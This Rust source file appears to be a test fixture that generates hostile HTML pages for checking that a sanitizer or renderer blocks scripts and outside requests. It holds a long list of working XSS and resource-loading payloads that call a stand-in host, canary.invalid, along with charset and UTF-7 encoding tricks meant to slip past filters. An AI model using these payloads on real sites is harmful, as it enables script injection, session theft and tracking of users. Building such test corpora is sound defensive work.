//! Makes pages that try to run scripts, load files or lead to another host. They combine tricks, places on a page, and
//! encodings that hide the tricks. Every page has a trick in each place; over all pages, each trick is in every place.

/// The host to which only hostile pages link.
pub(crate) const ELSEWHERE: &str = "canary.invalid";

/// The actions of a page's script: one that a test sees, and a request.
const RUN: &str = "top.pwned=1;window.pwned=1;document.title='pwned';new Image().src='//canary.invalid/ran'";

/// The tricks; `RUN` and `ELSEWHERE` are replaced by their values.
const TRICKS: &[&str] = &[
    "<script>RUN</script>",
    "<script src=//ELSEWHERE/s.js></script>",
    "<script type=module>import '//ELSEWHERE/m.js';RUN</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"//ELSEWHERE/i.js\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//ELSEWHERE/sp\"]}],\"prerender\":[{\"urls\":[\"//ELSEWHERE/pr\"]}]}</script>",
    "<ScRiPt\n>RUN</sCrIpT >",
    "<<script>RUN//<</script>",
    "<script\x0c>RUN</script\x0c>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=//ELSEWHERE/i.png>",
    "<img src=x onerror=\"RUN\">",
    "<img/src=x/onerror=RUN//>",
    "<img srcset='//ELSEWHERE/1x.png 1x, //ELSEWHERE/2x.png 2x' src=x>",
    "<picture><source srcset=//ELSEWHERE/p.webp><img src=x></picture>",
    "<image src=//ELSEWHERE/image xlink:href=//ELSEWHERE/image2>",
    "<svg onload=\"RUN\"><image href=//ELSEWHERE/svg.png></image></svg>",
    "<svg><script href=//ELSEWHERE/svg.js>RUN</script></svg>",
    "<svg><use href=//ELSEWHERE/use.svg#x></use><style>@import '//ELSEWHERE/svg.css';</style></svg>",
    "<svg><animate attributeName=href values=javascript:RUN /><a href=x><text>here</text></a></svg>",
    "<svg><foreignObject><iframe src=//ELSEWHERE/fo></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=RUN></mtext><maction actiontype=statusline xlink:href=javascript:RUN>m</maction></math>",
    "<math><annotation-xml encoding=text/html><script>RUN</script></annotation-xml></math>",
    "<iframe src=//ELSEWHERE/frame></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;RUN&lt;/script&gt;<img src=//ELSEWHERE/srcdoc>\"></iframe>",
    "<iframe src=\"javascript:RUN\"></iframe>",
    "<frameset onload=RUN><frame src=//ELSEWHERE/fs></frameset>",
    "<object data=//ELSEWHERE/object type=text/html></object>",
    "<embed src=//ELSEWHERE/embed>",
    "<applet code=A codebase=//ELSEWHERE/ archive=//ELSEWHERE/a.jar></applet>",
    "<portal src=//ELSEWHERE/portal></portal><fencedframe src=//ELSEWHERE/fenced></fencedframe>",
    "<meta http-equiv=refresh content='0;url=//ELSEWHERE/refresh'>",
    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "<meta http-equiv=content-security-policy content='default-src *; report-uri //ELSEWHERE/csp'>",
    "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//dns.ELSEWHERE>",
    "<link rel=stylesheet href=//ELSEWHERE/l.css>",
    "<link rel=preload as=image href=//ELSEWHERE/preload.png><link rel=prefetch href=//ELSEWHERE/prefetch>",
    "<link rel=preconnect href=//connect.ELSEWHERE crossorigin><link rel=modulepreload href=//ELSEWHERE/mp.js>",
    "<link rel=manifest href=//ELSEWHERE/manifest><link rel='shortcut icon' href=//ELSEWHERE/favicon.ico>",
    "<link rel=prerender href=//ELSEWHERE/prerender><link rel=import href=//ELSEWHERE/import>",
    "<style>@import url(//ELSEWHERE/import.css);</style>",
    "<style>@font-face{font-family:f;src:url(//ELSEWHERE/f.woff)}*{font-family:f}</style>",
    "<style>*{background:url(//ELSEWHERE/b.png);behavior:url(//ELSEWHERE/b.htc)}</style>",
    "<style>a[href^=h]{list-style:url(//ELSEWHERE/leak)}p::before{content:url(//ELSEWHERE/before)}</style>",
    "<p style='background:url(//ELSEWHERE/style);width:expression(RUN)'>styled</p>",
    "<p style=\"background-image:image-set('//ELSEWHERE/set' 1x);cursor:url(//ELSEWHERE/cursor),auto\">set</p>",
    "<base href=//ELSEWHERE/ target=_top><img src=based.png>",
    "<form action=//ELSEWHERE/form><input autofocus onfocus=RUN><button formaction=javascript:RUN>send</button></form>",
    "<input type=image src=//ELSEWHERE/input.png><isindex action=//ELSEWHERE/isindex>",
    "<a href=\"javascript:RUN\">here</a><a href='jav&#x09;ascript:RUN'>there</a>",
    "<a href='data:text/html,<script>RUN</script>' target=_top>data</a>",
    "<a href=//ELSEWHERE/a ping=//ELSEWHERE/ping download attributionsrc=//ELSEWHERE/attribution>ping</a>",
    "<area href=//ELSEWHERE/area ping=//ELSEWHERE/areaping><map name=m></map>",
    "<video src=//ELSEWHERE/v.mp4 poster=//ELSEWHERE/poster.png autoplay onloadstart=RUN></video>",
    "<audio autoplay controls><source src=//ELSEWHERE/a.mp3 onerror=RUN><track default src=//ELSEWHERE/t.vtt></audio>",
    "<details open ontoggle=RUN><summary>more</summary>x</details>",
    "<marquee onstart=RUN loop=1>runs</marquee><bgsound src=//ELSEWHERE/bg.mid>",
    "<body onload=RUN background=//ELSEWHERE/body.png onpageshow=RUN>",
    "<table background=//ELSEWHERE/table.png><td background=//ELSEWHERE/td.png>cell</table>",
    "<?xml-stylesheet type='text/xsl' href='//ELSEWHERE/x.xsl'?>",
    "<template shadowrootmode=open><script>RUN</script><img src=//ELSEWHERE/shadow></template>",
    "<noscript><img src=//ELSEWHERE/noscript></noscript><noembed><img src=x onerror=RUN></noembed>",
    "<!--><script>RUN</script>--><!-- --!><img src=//ELSEWHERE/comment>",
    "<![CDATA[<script>RUN</script>]]><!DOCTYPE x [<!ENTITY e SYSTEM '//ELSEWHERE/entity'>]>&e;",
    "</title></textarea></style></script></xmp><script>RUN</script>",
    "<xmp><script>RUN</script></xmp><img src=//ELSEWHERE/xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<textarea></textarea><img src=x onerror=RUN><listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "\"><script>RUN</script><b a=\"",
    "'><img src=x onerror=RUN><b a='",
    "&lt;script&gt;RUN&lt;/script&gt;&lt;img src=//ELSEWHERE/text&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;&amp;lt;script&amp;gt;RUN",
    "<x-own onclick=RUN onanimationstart=RUN style='animation:x 1s' tabindex=1 accesskey=x contenteditable>own</x-own>",
    "<dialog open oncancel=RUN><button popovertarget=p onclick=RUN>press</button></dialog><div popover id=p ontoggle=RUN>p</div>",
    "<div id=live data-events=//ELSEWHERE/events></div><p data-job=job data-live=fetched id=away>clobbered</p>",
    "<a id=main name=main href=#main class=skip>clobbered</a><form id=documentElement></form>",
    "\u{202e}<script>RUN</script>\u{0}\u{feff}<img src=//ELSEWHERE/bidi>",
    "<plaintext><script>RUN</script>",
];

/// The number of pages that have every trick in every place, and every encoding.
pub(crate) const PAGES: usize = TRICKS.len();

/// Returns a page with the result of `trick` in eight places: title, head, headline, class, alternative text, text,
/// JSON data, and end.
fn page(number: usize, trick: impl Fn(usize) -> String) -> String {
    let story = format!(
        "<p>The council met for the {number}th time on Monday and talked for hours about the bridge that was to be built \
         over the river before the winter came. Nobody could say who would pay for it, and so it was put off again.</p>"
    );
    let title = trick(0);
    let (head, headline, class, alt) = (trick(1), trick(2), trick(3), trick(4));
    let (text, author, end) = (trick(5), trick(6).replace('"', "\\u0022"), trick(7));
    format!(
        "<!doctype html><html lang=en><head><title>Meeting {number} {title}</title>{head}\
         <script type=application/ld+json>{{\"@type\":\"NewsArticle\",\"author\":{{\"name\":\"{author}\"}}}}</script>\
         <meta name=author content=\"{title}\"></head><body><article><h1>Meeting {number} {headline}</h1>{story}\
         <div class='promo {class}'>{story}</div><img alt='{alt}' src=a.png>{text}{story}{end}</article></body></html>"
    )
}

/// A way to encode a page: the content type, and a function that returns the bytes.
type Encoding = (&'static str, fn(&str) -> Vec<u8>);

const ENCODINGS: &[Encoding] = &[
    ("text/html; charset=utf-8", |page| page.as_bytes().to_vec()),
    ("text/html", |page| [b"\xef\xbb\xbf<meta charset=utf-16le>", page.as_bytes()].concat()),
    ("text/html; charset=utf-16le", |page| page.encode_utf16().flat_map(u16::to_le_bytes).collect()),
    ("text/html", |page| "\u{feff}".encode_utf16().chain(page.encode_utf16()).flat_map(u16::to_le_bytes).collect()),
    ("text/html", |page| "\u{feff}".encode_utf16().chain(page.encode_utf16()).flat_map(u16::to_be_bytes).collect()),
    ("text/html; charset=utf-7", |page| utf7(page)),
    ("text/html", |page| format!("<meta charset=utf-7>{}", utf7_text(page)).into_bytes()),
    ("text/html; charset=iso-2022-jp", |page| before(page, '<', b"\x1b$B\x1b(B")),
    ("text/html; charset=shift_jis", |page| before(page, '"', b"\x82")),
    ("text/html; charset=gbk", |page| before(page, '\'', b"\x81")),
    ("text/html; charset=big5", |page| before(page, '>', b"\xa1")),
    ("text/html; charset=x-user-defined", |page| before(page, '<', b"\xbc")),
    ("text/html; charset=windows-1252", |page| page.replace("<s", "<\0s").into_bytes()),
    ("text/html; charset=utf-8", |page| before(page, '"', b"\xc0\xe2\x80")),
    ("text/html; charset=us-ascii", |page| page.chars().map(|c| if c == '<' { 0xbc } else { c as u8 }).collect()),
    ("application/xhtml+xml", |page| {
        format!(
            "<?xml version='1.0'?><?xml-stylesheet href='//{ELSEWHERE}/pi.css'?><html xmlns='http://www.w3.org/1999/xhtml'>{}",
            page.trim_start_matches("<!doctype html><html lang=en>")
        )
        .into_bytes()
    }),
];

fn before(page: &str, mark: char, bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for c in page.chars() {
        if c == mark {
            out.extend_from_slice(bytes);
        }
        out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
    }
    out
}

fn utf7_text(page: &str) -> String {
    page.replace('<', "<!-- --><b>+ADw-</b>+ADw-").replace('"', "+ACI-")
}

/// Encodes the tags of tricks in UTF-7. The page's own tags stay.
fn utf7(page: &str) -> Vec<u8> {
    page.replace("<script", "+ADw-script").replace("<img", "+ADw-img").replace("onerror", "+AG8-nerror").into_bytes()
}

/// Returns the content type and the bytes of the page with this number.
pub(crate) fn hostile(number: usize) -> (&'static str, Vec<u8>) {
    // The step of 11 has no common divisor with the number of tricks.
    let trick = |place: usize| {
        let trick = TRICKS[(number + place * 11) % TRICKS.len()];
        trick.replace("RUN", RUN).replace("ELSEWHERE", ELSEWHERE)
    };
    let (kind, encode) = ENCODINGS[(number / 3) % ENCODINGS.len()];
    (kind, encode(&page(number, trick)))
}
